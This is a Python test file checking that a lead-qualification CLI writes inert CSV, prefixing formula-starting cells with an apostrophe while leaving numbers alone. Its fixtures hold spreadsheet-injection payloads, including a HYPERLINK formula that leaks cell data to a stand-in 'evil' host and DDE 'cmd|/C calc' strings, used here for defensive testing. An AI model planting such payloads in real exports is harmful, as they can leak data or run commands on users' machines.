"""CSV written for spreadsheets is inert: a cell that would start a formula is prefixed with `'`, numbers stay.

Read back with the csv module, every cell is exactly what a spreadsheet would be given.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from click.testing import CliRunner
from leads_support import MakeProject, write_csv

from playbook.cli.main import cli
from playbook.leads.spreadsheet_csv import SpreadsheetWriter, inert

CELLS = [
    # (written, as the spreadsheet gets it)
    ('=HYPERLINK("http://evil/?x="&A1,"x")', '\'=HYPERLINK("http://evil/?x="&A1,"x")'),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"),
    ("@SUM(1+1)", "'@SUM(1+1)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("=1+1", "'=1+1"),
    ("-2+3", "'-2+3"),
    ("-1e3+cmd", "'-1e3+cmd"),
    ("-", "'-"),
    ("+", "'+"),
    ("-5%", "'-5%"),
    ("- 5", "'- 5"),
    # Numbers, as exports write them: left alone.
    ("-5", "-5"),
    ("-0.25", "-0.25"),
    ("+5", "+5"),
    ("-.5", "-.5"),
    ("-1e3", "-1e3"),
    ("-1 000,50", "-1 000,50"),
    ("-1\u00a0000,50", "-1\u00a0000,50"),
    ("+370 600 00000", "+370 600 00000"),
    ("-1'000.5", "-1'000.5"),
    # Text that does not start a formula: left alone.
    ("opel", "opel"),
    (" =not a formula", " =not a formula"),
    ("a=b", "a=b"),
    ("", ""),
    ("'=already", "'=already"),
]


@pytest.mark.parametrize(("cell", "expected"), CELLS)
def test_a_cell_read_back(cell: str, expected: str) -> None:
    out = io.StringIO(newline="")
    SpreadsheetWriter(out).writerow([cell, -5, -0.25, 3])
    (row,) = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert row == [expected, "-5", "-0.25", "3"]


def test_python_numbers_stay_numbers() -> None:
    assert inert(-5) == -5 and inert(-0.25) == -0.25 and inert(None) is None


QUALIFICATION = """\
fields:
  - {id: brand, label: Car brand, type: text}
target:
  require:
    - {field: brand, in: [opel], because: "=HYPERLINK(\\"http://evil/\\",\\"x\\") we only stock Opel"}
  min_score: 0
"""

LEADS = [
    ["id", "brand", "=cmd|' /C calc'!A0", "note"],
    ['=HYPERLINK("http://evil/?x="&A1,"x")', "opel", "-5", "@SUM(1+1)"],
    ["+cmd|' /C calc'!A0", "peugeot", "-0.25", "-cmd|' /C calc'!A0"],
    ["L-3", "Opel", "1", "\tTab"],
]


def _csv(rows: list[list[str]]) -> str:
    text = io.StringIO(newline="")
    csv.writer(text, lineterminator="\n").writerows(rows)
    return text.getvalue()


def _run(*args: str | Path) -> tuple[int, str, str]:
    result = CliRunner().invoke(cli, [str(a) for a in args], catch_exceptions=False)
    return result.exit_code, result.stdout, result.stderr


def test_qualify_csv_is_inert(make_project: MakeProject, tmp_path: Path) -> None:
    project = make_project(QUALIFICATION)
    code, out, err = _run("-C", project, "qualify", write_csv(tmp_path / "leads.csv", _csv(LEADS)), "--format", "csv")
    assert code == 0, err
    rows = list(csv.reader(io.StringIO(out, newline="")))
    assert rows == [
        ["id", "brand", "'=cmd|' /C calc'!A0", "note", "verdict", "score", "reasons"],
        ['\'=HYPERLINK("http://evil/?x="&A1,"x")', "opel", "-5", "'@SUM(1+1)", "target", "0", ""],
        [
            "'+cmd|' /C calc'!A0",
            "peugeot",
            "-0.25",
            "'-cmd|' /C calc'!A0",
            "not target",
            "0",
            '\'=HYPERLINK("http://evil/","x") we only stock Opel',
        ],
        ["L-3", "Opel", "1", "'\tTab", "target", "0", ""],
    ]
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")) and (cell[:1] != "-" or cell[1:2].isdigit())


FUNNEL_PATH = """\
stages:
  - {id: new, name: New lead, owner: marketing, sla: {within_hours: 24}}
  - {id: won, name: Customer, owner: sales, terminal: true}
handoffs:
  - {from: new, to: won}
"""

EVENTS = [
    ["lead_id", "stage", "timestamp", "source", "campaign", "owner"],
    ["=1+1", "new", "2026-11-01 08:00", "@SUM(1+1)", "+cmd|' /C calc'!A0", '=HYPERLINK("http://evil/")'],
    ["=1+1", "won", "2026-11-02 08:00", "", "", ""],
    ["-7", "new", "2026-11-01 08:00", "web", "-x", "Ann"],
]


def test_funnel_csv_is_inert(make_project: MakeProject, tmp_path: Path) -> None:
    project = make_project("", lead_path=FUNNEL_PATH)
    events = write_csv(tmp_path / "events.csv", _csv(EVENTS))
    code, out, err = _run("-C", project, "funnel", events, "--format", "csv", "--as-of", "2026-11-10")
    assert code == 0, err
    rows = list(csv.reader(io.StringIO(out, newline="")))
    cells = [cell for row in rows for cell in row]
    assert ["source", "'@SUM(1+1)", "leads", "1"] in rows
    assert ["campaign", "'+cmd|' /C calc'!A0", "leads", "1"] in rows
    assert ["campaign", "'-x", "leads", "1"] in rows
    assert ["hanging", "-7", "stage", "new"] in rows  # a lead id that is a number stays one
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]
